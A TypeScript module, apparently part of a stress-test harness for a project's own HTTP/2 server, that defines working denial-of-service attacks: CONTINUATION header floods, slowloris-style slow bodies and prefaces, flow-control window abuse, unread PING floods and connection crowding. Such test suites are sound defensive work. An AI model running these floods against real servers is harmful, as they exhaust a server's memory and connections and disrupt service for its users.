/** Defines attacks that make the server wait or hold memory. Their connections hardly send or read anything. */
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Attacker } from "./attack.ts";
import { frame, many, PREFACE, type RawConnection, setting, Type, word } from "./raw-connection.ts";
import { head, LARGE_RANDOM } from "./requests.ts";

const INITIAL_WINDOW_SIZE = 4;
const MAX_WINDOW = 0x7fff_ffff;
const CONNECTIONS = 50;
/** How many streams the attacker opens on a connection. The server allows 100. */
const STREAMS = 90;
const FULL_FRAME = Buffer.alloc(16_384);
const GARBAGE = Buffer.from(`PRI * HTTP/9${"\u0007".repeat(1_000)}`);

/**
 * Opens `count` connections and then uses all of them. They are opened a few at a time, because a listening socket accepts only a
 * limited number at once.
 */
async function crowd(
  attacker: Attacker,
  count: number,
  use: (connection: RawConnection) => Promise<void>,
): Promise<void> {
  const connections: RawConnection[] = [];
  while (connections.length < count && !attacker.isOver) {
    connections.push(...(await Promise.all(Array.from({ length: 50 }, () => attacker.open()))));
  }
  await Promise.all(connections.map(use));
  await attacker.wait();
}

/** The attacks by name. */
export const HOLDING: Readonly<Record<string, Attack>> = {
  "header blocks without end, held": (attacker) =>
    attacker.flood(100, async (connection) => {
      const stream = connection.stream();
      const more = frame(Type.continuation, 0, stream, Buffer.alloc(16_000));
      await connection.send(frame(Type.headers, 0, stream, head("GenerateRandom", attacker.credentials)));
      await connection.send(many(3, () => more));
      await attacker.wait();
    }),
  "slow bodies": (attacker) =>
    attacker.flood(10, async (connection) => {
      const streams = Array.from({ length: STREAMS }, () => connection.stream());
      await connection.send(...streams.map((stream) => attacker.begin(stream, "EncryptSingle")));
      while (connection.isOpen && !attacker.isOver) {
        await sleep(100);
        await connection.send(...streams.map((stream) => frame(Type.data, 0, stream, Buffer.alloc(1))));
      }
    }),
  "heads without bodies": (attacker) =>
    attacker.flood(100, async (connection) => {
      await connection.send(many(STREAMS, () => attacker.begin(connection.stream(), "EncryptSingle")));
      await attacker.wait();
    }),
  "uploads without end": (attacker) =>
    attacker.flood(10, async (connection) => {
      const streams = Array.from({ length: STREAMS }, () => connection.stream());
      await connection.send(...streams.map((stream) => attacker.begin(stream, "EncryptSingle")));
      for (let turn = 0; connection.isOpen && !attacker.isOver; turn++) {
        await connection.send(frame(Type.data, 0, streams[turn % STREAMS]!, FULL_FRAME));
        // Waits after every four frames, which fill the window of 64 KiB. Only a server that enlarges the window may
        // receive more.
        if (turn % 4 === 3) await sleep(5);
      }
    }),
  "1,000 connections with 100 partial bodies": (attacker) =>
    crowd(attacker, 1_000, (connection) =>
      connection.send(
        many(100, () => {
          const stream = connection.stream();
          return Buffer.concat([
            attacker.begin(stream, "EncryptSingle"),
            frame(Type.data, 0, stream, Buffer.alloc(100)),
          ]);
        }),
      ),
    ),
  "slow readers, no window": (attacker) =>
    attacker.flood(
      CONNECTIONS,
      async (connection) => {
        await connection.send(
          many(STREAMS, () => attacker.request(connection.stream(), "GenerateRandom", LARGE_RANDOM)),
        );
        await attacker.wait();
      },
      { settings: setting(INITIAL_WINDOW_SIZE, 0) },
    ),
  "slow readers, large window": (attacker) =>
    attacker.flood(
      CONNECTIONS,
      async (connection) => {
        await connection.send(frame(Type.windowUpdate, 0, 0, word(MAX_WINDOW - 65_535)));
        for (let round = 0; round < 10 && connection.isOpen && !attacker.isOver; round++) {
          await connection.send(
            many(STREAMS, () => attacker.request(connection.stream(), "GenerateRandom", LARGE_RANDOM)),
          );
          await sleep(200);
        }
        await attacker.wait();
      },
      { settings: setting(INITIAL_WINDOW_SIZE, MAX_WINDOW), reads: false },
    ),
  "windows that grow by 1": (attacker) =>
    attacker.flood(
      4,
      async (connection) => {
        const streams = Array.from({ length: CONNECTIONS }, () => connection.stream());
        await connection.send(...streams.map((id) => attacker.request(id, "GenerateRandom", LARGE_RANDOM)));
        for (let turn = 0; turn < 100 && connection.isOpen; turn++) {
          await connection.send(...streams.map((id) => frame(Type.windowUpdate, 0, id, word(1))));
        }
      },
      { settings: setting(INITIAL_WINDOW_SIZE, 1) },
    ),
  "PING, never read": (attacker) =>
    attacker.flood(
      CONNECTIONS,
      async (connection) => {
        await connection.send(many(900, () => frame(Type.ping, 0, 0, Buffer.alloc(8))));
        await sleep(20);
      },
      { reads: false },
    ),
  "slow prefaces": (attacker) =>
    attacker.flood(
      100,
      async (connection) => {
        for (const byte of PREFACE) {
          await connection.send(Buffer.of(byte));
          await sleep(50);
        }
      },
      { preface: false },
    ),
  "garbage instead of a preface": (attacker) =>
    attacker.flood(20, (connection) => connection.send(GARBAGE), { preface: false }),
};
